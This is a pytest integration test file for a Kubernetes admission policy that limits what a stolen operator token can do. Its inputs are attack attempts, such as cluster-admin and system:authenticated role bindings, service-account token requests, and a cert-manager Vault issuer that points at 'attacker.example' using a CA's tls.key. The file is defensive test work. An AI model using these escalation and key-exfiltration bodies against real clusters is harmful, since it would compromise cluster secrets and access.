"""operator-guard: what a stolen operator token cannot do, although RBAC would let it."""

from __future__ import annotations

from typing import Any

import pytest

from tests.integration.admission.api import Object
from tests.integration.admission.objects import (
    APPS,
    BATCH,
    CERT_MANAGER,
    CLIENTS,
    CORE,
    HOME,
    INFERENCE,
    RELABELLED,
    STORAGE,
    TRAINING,
    autoscaler,
    certificate,
    claim,
    cron_job,
    issuer,
    job,
    meta,
    pod_spec,
    service,
    stateful_set,
    template,
    zone,
)  # fmt: skip
from tests.integration.admission.world import World

POLICY = "operator-guard.cloister.dev"
RBAC = "apis/rbac.authorization.k8s.io/v1"
CA = "cloister-ca-guarded-g1"


def binding(role: str, subject: str = "Group", name: str = "ml-engineers", kind: str = "ClusterRole") -> Object:
    who: Object = {"kind": subject, "name": name}
    who |= {"namespace": "x"} if subject == "ServiceAccount" else {"apiGroup": "rbac.authorization.k8s.io"}
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": role}
    return {"metadata": meta("access"), "roleRef": reference, "subjects": [who]}


def token_secret(name: str) -> Object:
    account = {"kubernetes.io/service-account.name": "default"}
    return {"metadata": {"name": name, "annotations": account}, "type": "kubernetes.io/service-account-token"}


NOT_ZONES = [CLIENTS, HOME, "kube-system", "default"]


@pytest.mark.parametrize("namespace", NOT_ZONES)
def test_outside_zones_it_makes_no_workload_and_nothing_else(world: World, namespace: str) -> None:
    inside: list[tuple[str, str, Object]] = [
        (CORE, "configmaps", {"metadata": meta("x")}),
        (CORE, "serviceaccounts", {"metadata": meta("x")}),
        (CORE, "services", service("x", namespace)),
        (CORE, "persistentvolumeclaims", claim("x", namespace)),
        (CORE, "secrets", {"metadata": meta("keyring-checkpoints")}),
        (CORE, "secrets", token_secret("x")),
        (CORE, "pods", {"metadata": meta("x"), "spec": pod_spec()}),
        (APPS, "statefulsets", stateful_set("x", namespace)),
        (BATCH, "jobs", job("x", namespace)),
        (BATCH, "cronjobs", cron_job("x", namespace)),
        ("apis/networking.k8s.io/v1", "networkpolicies", {"metadata": meta("x"), "spec": {"podSelector": {}}}),
        (RBAC, "rolebindings", binding("cloister-zone-view")),
        (CERT_MANAGER, "certificates", certificate("mine", namespace, CA)),
    ]
    for api, resource, body in inside:
        answer = world.operator.create(f"{api}/namespaces/{namespace}/{resource}", body)
        assert answer.refused_by(POLICY), (resource, answer)
    existing = f"{CORE}/namespaces/{namespace}/configmaps/kube-root-ca.crt"
    assert (answer := world.operator.patch(existing, {"data": {"ca.crt": "mine"}})).refused_by(POLICY), answer
    assert (answer := world.operator.delete(existing)).refused_by(POLICY), answer
    token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    account = f"{CORE}/namespaces/{namespace}/serviceaccounts/default/token"
    assert (answer := world.operator.create(account, token)).code == 403, answer


def test_in_a_zone_it_makes_only_its_kinds(world: World) -> None:
    others: list[tuple[str, str, Object]] = [
        (CORE, "pods", {"metadata": meta("x"), "spec": pod_spec()}),
        (APPS, "deployments", _deployment()),
        (RBAC, "roles", {"metadata": meta("x"), "rules": []}),
        ("apis/autoscaling/v2", "horizontalpodautoscalers", autoscaler("x", INFERENCE)),
    ]
    for api, resource, body in others:
        answer = world.operator.create(f"{api}/namespaces/{INFERENCE}/{resource}", body)
        assert answer.refused_by(POLICY), (resource, answer)
    scale = f"{APPS}/namespaces/{INFERENCE}/statefulsets/model/scale"
    assert (answer := world.operator.patch(scale, {"spec": {"replicas": 2}})).refused_by(POLICY), answer


def test_nothing_of_the_whole_cluster_but_its_own(world: World) -> None:
    others: list[tuple[str, Object]] = [
        (f"{RBAC}/clusterroles", {"metadata": meta("x"), "rules": []}),
        (f"{RBAC}/clusterrolebindings", binding("cloister-zone-view")),
        (f"{CERT_MANAGER}/clusterissuers", issuer("mine", {"selfSigned": {}})),
        (f"{CORE}/nodes", {"metadata": meta("x")}),
    ]
    for path, body in others:
        assert (answer := world.operator.create(path, body)).refused_by(POLICY), (path, answer)
    unlabelled = issuer("cloister-selfsigned-x", {"selfSigned": {}})
    del unlabelled["metadata"]["labels"]
    answer = world.operator.create(f"{CERT_MANAGER}/clusterissuers", unlabelled)
    assert answer.refused_by(POLICY), answer


# --- namespaces ---

NAMESPACES_NOT_ITS_OWN: dict[str, Object] = {
    "without labels": {"metadata": {"name": "x-training"}},
    "of another's label": zone("training", "x", **{"app.kubernetes.io/managed-by": "Helm"}),
    "of no zone": zone("other", "x"),
    "named otherwise": zone("training", "x") | {"metadata": zone("training", "y")["metadata"] | {"name": "x-training"}},
    "named for another zone": {"metadata": zone("training", "x")["metadata"] | {"name": "x-storage"}},
    "privileged": zone("training", "x", **{"pod-security.kubernetes.io/enforce": "privileged"}),
}


@pytest.mark.parametrize("body", NAMESPACES_NOT_ITS_OWN.values(), ids=NAMESPACES_NOT_ITS_OWN)
def test_it_makes_no_namespace_but_zones(world: World, body: Object) -> None:
    assert (answer := world.operator.create(f"{CORE}/namespaces", body)).refused_by(POLICY), answer


def test_it_adopts_and_deletes_no_namespace_of_others(world: World) -> None:
    for name in NOT_ZONES:
        path, labels = f"{CORE}/namespaces/{name}", zone("training")["metadata"]["labels"]
        answer = world.operator.patch(path, {"metadata": {"labels": labels}})
        assert answer.refused_by(POLICY), answer
        assert (answer := world.operator.patch(path, {"metadata": {"annotations": {"x": "y"}}})).refused_by(POLICY)
        if name in {CLIENTS, HOME}:  # Kubernetes itself keeps the others
            assert (answer := world.operator.delete(path)).refused_by(POLICY), answer


def test_it_loosens_no_zone(world: World) -> None:
    path = f"{CORE}/namespaces/{TRAINING}"
    for key in ("pod-security.kubernetes.io/enforce", "cloister.dev/zone", "app.kubernetes.io/managed-by"):
        for value in ("privileged", None):
            answer = world.operator.patch(path, {"metadata": {"labels": {key: value}}})
            assert answer.refused_by(POLICY), (key, value, answer)


def test_it_puts_its_own_mark_back_and_writes_nothing_else_there_before(world: World) -> None:
    """It is known by that label: without it, nothing of the zone could be repaired."""
    path, mark = f"{CORE}/namespaces/{RELABELLED}", "app.kubernetes.io/managed-by"
    answer = world.operator.patch(path, {"metadata": {"labels": {mark: "cloister"}}})
    assert answer.allowed, answer
    for labels in ({mark: "another"}, {mark: None}, {"team": "ml"}, {mark: "cloister", "cloister.dev/zone": "storage"}):
        assert (answer := world.operator.patch(path, {"metadata": {"labels": labels}})).refused_by(POLICY), labels
    answer = world.operator.create(f"{path}/configmaps", {"metadata": meta("x", RELABELLED), "data": {}})
    assert answer.refused_by(POLICY), answer


# --- secrets ---

SECRETS_NOT_ITS_OWN: dict[str, tuple[str, Object]] = {
    "a token of an account": (STORAGE, token_secret("keyring-training-data")),
    "another name": (STORAGE, {"metadata": meta("mine")}),
    "another zone": (INFERENCE, {"metadata": meta("keyring-training-data")}),
    "a TLS Secret": (
        STORAGE,
        {
            "metadata": meta("keyring-training-data"),
            "type": "kubernetes.io/tls",
            "data": {"tls.crt": "", "tls.key": ""},
        },
    ),
    "a bootstrap token": (
        STORAGE,
        {"metadata": meta("keyring-training-data"), "type": "bootstrap.kubernetes.io/token"},
    ),
}


@pytest.mark.parametrize(("namespace", "body"), SECRETS_NOT_ITS_OWN.values(), ids=SECRETS_NOT_ITS_OWN)
def test_it_makes_no_secret_but_keyrings(world: World, namespace: str, body: Object) -> None:
    answer = world.operator.create(f"{CORE}/namespaces/{namespace}/secrets", body)
    assert answer.refused_by(POLICY), answer


def test_keyrings_are_its_own(world: World) -> None:
    path = f"{CORE}/namespaces/{STORAGE}/secrets"
    keyring = {"metadata": meta("keyring-interaction-logs"), "type": "Opaque"}
    assert (answer := world.operator.create(path, keyring)).allowed, answer
    assert (answer := world.operator.patch(f"{path}/keyring-checkpoints", {"stringData": {"k": "w"}})).allowed, answer
    assert (answer := world.operator.delete(f"{path}/keyring-checkpoints")).allowed, answer


# --- people's access ---

BINDINGS_NOT_ITS_OWN: dict[str, Object] = {
    "to another role": binding("cluster-admin"),
    "to a Role of that name": binding("cloister-zone-view", kind="Role"),
    "of a service account": binding("cloister-zone-view", "ServiceAccount", "default"),
    "of everyone": binding("cloister-zone-view", name="system:authenticated"),
    "of nobody known": binding("cloister-zone-view", name="system:unauthenticated"),
    "of a system user": binding("cloister-zone-logs", "User", "system:kube-scheduler"),
}


@pytest.mark.parametrize("body", BINDINGS_NOT_ITS_OWN.values(), ids=BINDINGS_NOT_ITS_OWN)
def test_it_binds_only_people_and_only_to_their_roles(world: World, body: Object) -> None:
    answer = world.operator.create(f"{RBAC}/namespaces/{TRAINING}/rolebindings", body)
    assert answer.refused_by(POLICY), answer


def test_people_are_bound(world: World) -> None:
    for body in (binding("cloister-zone-view"), binding("cloister-zone-logs", "User", "jane")):
        answer = world.operator.create(f"{RBAC}/namespaces/{TRAINING}/rolebindings", body)
        assert answer.allowed, answer


# --- certificates and issuers: cert-manager would act for it ---

CERTIFICATES_NOT_ITS_OWN: dict[str, tuple[str, Object]] = {
    "over another's Secret": (CLIENTS, certificate("cloister-x", CLIENTS, CA, secretName="database")),
    "of another's issuer": (CLIENTS, certificate("cloister-x", CLIENTS, "company-pki")),
    "a CA elsewhere": (CLIENTS, certificate("cloister-ca-x-g1", CLIENTS, "company-pki", isCA=True)),
    "a CA of another name": ("cert-manager", certificate("cloister-x", "cert-manager", CA, isCA=True)),
}


@pytest.mark.parametrize(("namespace", "body"), CERTIFICATES_NOT_ITS_OWN.values(), ids=CERTIFICATES_NOT_ITS_OWN)
def test_it_asks_cert_manager_for_no_more_than_its_own(world: World, namespace: str, body: Object) -> None:
    answer = world.operator.create(f"{CERT_MANAGER}/namespaces/{namespace}/certificates", body)
    assert answer.refused_by(POLICY), answer


def test_a_ca_may_be_signed_by_the_companys_pki(world: World) -> None:
    body = certificate("cloister-ca-x-g1", "cert-manager", "company-pki", isCA=True)
    answer = world.operator.create(f"{CERT_MANAGER}/namespaces/cert-manager/certificates", body)
    assert answer.allowed, answer


ISSUERS_NOT_ITS_OWN: dict[str, Object] = {
    "over another's CA": issuer("cloister-ca-x-g1", {"ca": {"secretName": "company-pki"}}),
    "self-signed in a CA's name": issuer("cloister-ca-x-g1", {"selfSigned": {}}),
    "a CA in a root's name": issuer("cloister-selfsigned-x", {"ca": {"secretName": "cloister-selfsigned-x"}}),
    "another type": issuer(
        "cloister-ca-x-g1",
        {
            "vault": {
                "server": "https://attacker.example",
                "path": "p",
                "auth": {"tokenSecretRef": {"name": "company-pki", "key": "tls.key"}},
            }
        },
    ),
}


@pytest.mark.parametrize("body", ISSUERS_NOT_ITS_OWN.values(), ids=ISSUERS_NOT_ITS_OWN)
def test_it_makes_no_issuer_over_another_secret(world: World, body: Object) -> None:
    assert (answer := world.operator.create(f"{CERT_MANAGER}/clusterissuers", body)).refused_by(POLICY), answer


# --- what it needs of its own namespace, and of nobody's ---


def test_its_lease_and_no_other(world: World) -> None:
    def lease(name: str, namespace: str) -> tuple[str, Any]:
        return f"apis/coordination.k8s.io/v1/namespaces/{namespace}/leases", {"metadata": {"name": name}}

    assert (answer := world.operator.create(*lease("cloister", HOME))).allowed, answer
    for name, namespace in (("other", HOME), ("cloister", "kube-system"), ("cloister", TRAINING)):
        answer = world.operator.create(*lease(name, namespace))
        assert answer.refused_by(POLICY), (name, namespace, answer)


def test_events_anywhere(world: World) -> None:
    for namespace in ("default", TRAINING):
        involved = {"kind": "LLMDeployment", "name": "guarded", "namespace": namespace}
        event = {"metadata": {"name": "e"}, "involvedObject": involved, "reason": "Test", "message": "x"}
        assert (answer := world.operator.create(f"{CORE}/namespaces/{namespace}/events", event)).allowed, answer


def _deployment() -> Object:
    labels = {"app": "x"}
    return {"metadata": meta("x"), "spec": {"selector": {"matchLabels": labels}, "template": template(labels)}}
